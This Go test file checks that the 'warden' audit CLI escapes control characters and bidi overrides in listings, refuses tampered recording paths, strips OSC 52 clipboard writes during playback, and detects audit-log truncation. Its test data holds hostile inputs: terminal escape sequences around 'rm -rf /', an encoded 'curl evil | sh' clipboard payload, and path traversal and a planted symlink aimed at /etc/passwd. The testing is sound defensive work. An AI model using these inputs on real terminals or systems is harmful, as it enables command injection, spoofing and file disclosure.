package cli

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/warden-gw/warden/audit"
	"github.com/warden-gw/warden/internal/storetest"
)

// hostile is text that would act on an auditor's terminal if printed raw:
// a C1 CSI as a rune and as a raw byte, a C1 OSC 52, an ESC sequence, and a
// right-to-left override that makes "exe.doc" read as "cod.exe".
const hostile = "rm -rf /\u009b8m\x9b8m\u009d52;c;eA==\u009c\x1b[31m \u202eexe.doc\u2066x\u2069\u200f\u061c"

// assertTerminalSafe fails if out holds anything Quote must have escaped.
func assertTerminalSafe(t *testing.T, what, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Fatalf("%s: output is not UTF-8: %q", what, out)
	}
	for _, r := range out {
		switch {
		case r == '\n', r == ' ':
		case r < 0x20, r == 0x7f, r >= 0x80 && r <= 0x9f,
			r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069, r == 0x200e, r == 0x200f, r == 0x061c:
			t.Fatalf("%s: output holds %U raw: %q", what, r, out)
		}
	}
}

// TestListingsEscapeControlsAndBidi puts hostile text in every column a
// listing shows, then runs each listing through the real CLI.
func TestListingsEscapeControlsAndBidi(t *testing.T) {
	hostile, shown := hostile, `"rm -rf /\u009b8m\x9b8m\u009d52;c;eA==\u009c\x1b[31m \u202eexe.doc\u2066x\u2069\u200f\u061c"`
	if storetest.Postgres() {
		// PostgreSQL refuses text that is not UTF-8 (README, "PostgreSQL
		// store"), so the raw C1 byte cannot reach a listing there; the
		// rest, the C1 CSI as a rune included, is stored and must show
		// escaped.
		hostile, shown = strings.Replace(hostile, "\x9b8m", "", 1), strings.Replace(shown, `\x9b8m`, "", 1)
	}
	data, cfg, _ := govData(t)
	ctx := context.Background()
	st, err := audit.Open(ctx, data, audit.Options{})
	if err != nil {
		t.Fatal(err)
	}
	id := "hostilehostilehostile00000"
	if err := st.StartSession(ctx, audit.Session{ID: id, User: "alice" + hostile, Login: "root" + hostile, Host: "web01" + hostile,
		Tenant: "acme" + hostile, Role: "prod-root" + hostile}); err != nil {
		t.Fatal(err)
	}
	if err := st.LogCommand(ctx, audit.Command{SessionID: id, User: "alice" + hostile, Login: "root", Host: "web01" + hostile,
		Tenant: "acme", Source: audit.SourceShell, Command: hostile, Action: audit.ActionAllowed}); err != nil {
		t.Fatal(err)
	}
	if err := st.EndSession(ctx, id, audit.SessionEnd{Reason: "exit" + hostile}); err != nil {
		t.Fatal(err)
	}
	later, _ := audit.Time(time.Now().Add(time.Hour))
	now, _ := audit.Time(time.Now())
	err = st.Update(ctx, func(tx *audit.Tx) error {
		for _, q := range []struct {
			sql  string
			args []any
		}{
			{`INSERT INTO requests (id, user, role, tenant, reason, ticket, duration, state, created_at)
				VALUES (7, ?, ?, ?, ?, ?, '1h0m0s', 'pending', ?)`, []any{"alice" + hostile, "prod-root" + hostile, "acme" + hostile, hostile, hostile, now}},
			{`INSERT INTO approvals (request_id, approver, decision, ts) VALUES (7, ?, 'approved', ?)`, []any{"carol" + hostile, now}},
			{`INSERT INTO grants (id, user, role, tenant, starts_at, expires_at) VALUES (9, ?, ?, 'acme', ?, ?)`,
				[]any{"alice" + hostile, "prod-root" + hostile, now, later}},
			{`INSERT INTO exceptions (tenant, owner, reason, controls, expires_at, created_by, created_at)
				VALUES ('acme', ?, ?, ?, ?, 'carol', ?)`, []any{"gina" + hostile, hostile, hostile, later, now}},
		} {
			if _, err := tx.Exec(q.sql, q.args...); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	st.Close()

	for _, args := range [][]string{
		{"sessions", "--data", data},
		{"commands", "--data", data},
		{"requests", "--data", data},
		{"grants", "--data", data},
		{"exceptions", "--data", data},
		{"reconcile", "-c", cfg},
	} {
		out, errOut, code := run(args...)
		if code != 0 {
			t.Fatalf("%s: exit %d: %s", args[0], code, errOut)
		}
		assertTerminalSafe(t, args[0], out)
		if !strings.Contains(out, `\u202e`) {
			t.Errorf("%s: the override is not shown escaped:\n%s", args[0], out)
		}
	}
	out, _, _ := run("commands", "--data", data, "--session", id)
	if !strings.Contains(out, shown) {
		t.Errorf("the command is not shown as it is stored, escaped:\n%s", out)
	}

	// A stored path with controls in it reaches audit verify's one line
	// escaped too.
	if _, err := rawSQL(t, data, `UPDATE sessions SET recording_path = ? WHERE id = ?`, "recordings/\u009d52;c;eA==\u009c\u202e.cast", id); err != nil {
		t.Fatal(err)
	}
	_, errOut, code := run("audit", "verify", "--data", data)
	if code != 1 || strings.Count(errOut, "\n") != 1 || !strings.Contains(errOut, "session "+id) {
		t.Fatalf("audit verify: %d %q", code, errOut)
	}
	assertTerminalSafe(t, "audit verify", errOut)
}

// TestPlayRefusesATamperedRecordingPath points a session's recording_path
// where a tamperer would: out of the data directory, at an absolute path,
// and at a symbolic link planted inside it.
func TestPlayRefusesATamperedRecordingPath(t *testing.T) {
	data, id := seed(t)
	day := filepath.Join(data, "recordings", "2026-11-29")
	if err := os.Symlink("/etc/passwd", filepath.Join(day, "planted.cast")); err != nil {
		t.Fatal(err)
	}
	for _, rel := range []string{"../../etc/passwd", "/etc/passwd", "recordings/2026-11-29/planted.cast", "recordings/../../../etc/passwd"} {
		t.Run(rel, func(t *testing.T) {
			if _, err := rawSQL(t, data, `UPDATE sessions SET recording_path = ? WHERE id = ?`, rel, id); err != nil {
				t.Fatal(err)
			}
			out, errOut, code := run("play", "--data", data, "--speed", "1000", id)
			if code != 1 || out != "" || strings.Count(errOut, "\n") != 1 ||
				!strings.HasPrefix(errOut, "warden: session "+id+": recording path ") || !strings.Contains(errOut, "refused") {
				t.Fatalf("play: exit %d, stdout %q, stderr %q; want one refusal line", code, out, errOut)
			}
			if strings.Contains(out+errOut, "root:") {
				t.Fatal("the file was read")
			}
		})
	}
}

// TestPlayStripsOSC52 plays, through the CLI, a recording whose host wrote
// the viewer's clipboard.
func TestPlayStripsOSC52(t *testing.T) {
	cast := filepath.Join(t.TempDir(), "evil.cast")
	body := "{\"version\":2,\"width\":80,\"height\":24}\n" +
		"[0.1,\"o\",\"$ id\\r\\n\\u001b]52;c;Y3VybCBldmlsIHwgc2g=\\u0007uid=0(root)\\r\\n\"]\n" +
		"[0.2,\"o\",\"\\u001b]0;title\\u001b\\\\\\u009d52;p;eA==\\u009c\\u001b[1mbye\\u001b[0m\"]\n"
	if err := os.WriteFile(cast, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	out, errOut, code := run("play", "--speed", "1000", cast)
	if code != 0 || out != "$ id\r\nuid=0(root)\r\n\x1b[1mbye\x1b[0m" {
		t.Fatalf("play: %d %q %q", code, out, errOut)
	}
}

// rawSQL edits the database the way a tamperer with file access (or, on
// PostgreSQL under the harness switch, the database's owner) would.
func rawSQL(t *testing.T, data, query string, args ...any) (int64, error) {
	t.Helper()
	res, err := storetest.RawDB(t, data).Exec(query, args...)
	if err != nil {
		return 0, err
	}
	return res.RowsAffected()
}

// TestAuditVerifyAnchorCatchesTruncation removes the newest events, which
// the chain alone cannot tell from a genuine end, and checks that the head
// printed earlier, kept elsewhere, catches it.
func TestAuditVerifyAnchorCatchesTruncation(t *testing.T) {
	data, _ := seed(t)
	out, errOut, code := run("audit", "verify", "--data", data)
	i := strings.Index(out, "head: seq ")
	if code != 0 || i < 0 {
		t.Fatalf("verify: %d %q %q", code, out, errOut)
	}
	head := strings.Fields(out[i:])[3]
	if out, errOut, code := run("audit", "verify", "--data", data, "--anchor", head); code != 0 || !strings.Contains(out, "anchor found at seq 1") {
		t.Fatalf("verify --anchor: %d %q %q", code, out, errOut)
	}
	drop := `DROP TRIGGER audit_events_no_delete`
	if storetest.Postgres() {
		drop += ` ON audit_events` // PostgreSQL names a trigger by its table
	}
	if _, err := rawSQL(t, data, drop); err != nil {
		t.Fatal(err)
	}
	// The tamperer removes the session's end and its sealed evidence with
	// it; the session row is made to look live again.
	if _, err := rawSQL(t, data, `DELETE FROM audit_events WHERE seq = 1`); err != nil {
		t.Fatal(err)
	}
	if _, err := rawSQL(t, data, `UPDATE sessions SET ended_at = NULL`); err != nil {
		t.Fatal(err)
	}
	if out, errOut, code := run("audit", "verify", "--data", data); code != 0 || !strings.Contains(out, "live: 1") {
		t.Fatalf("without an anchor the truncation passes, as documented: %d %q %q", code, out, errOut)
	}
	_, errOut, code = run("audit", "verify", "--data", data, "--anchor", head)
	if code != 1 || !strings.Contains(errOut, "is not in the chain") || strings.Count(errOut, "\n") != 1 {
		t.Fatalf("verify --anchor after truncation: %d %q", code, errOut)
	}
}
